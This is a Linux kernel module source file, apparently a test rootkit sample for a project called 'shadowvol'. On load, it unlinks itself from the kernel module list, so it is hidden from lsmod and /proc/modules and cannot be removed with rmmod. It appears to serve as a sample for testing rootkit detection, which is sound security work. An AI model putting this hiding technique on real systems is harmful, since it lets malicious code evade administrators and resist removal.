// SPDX-License-Identifier: GPL-2.0
/* Test rootkit: remove this module from the module list (list_del on
 * THIS_MODULE->list), the classic technique. Its sysfs kobject
 * (/sys/module/rk_hidemod) and its struct module in module memory stay.
 * lsmod and /proc/modules no longer show it, and rmmod cannot find it:
 * it cannot be unloaded, so load it only in a throw-away test VM. */
#include <linux/list.h>
#include <linux/module.h>

static int __init rk_hidemod_init(void)
{
	list_del(&THIS_MODULE->list);
	pr_info("rk_hidemod: hidden\n");
	return 0;
}

module_init(rk_hidemod_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: hide from the module list");
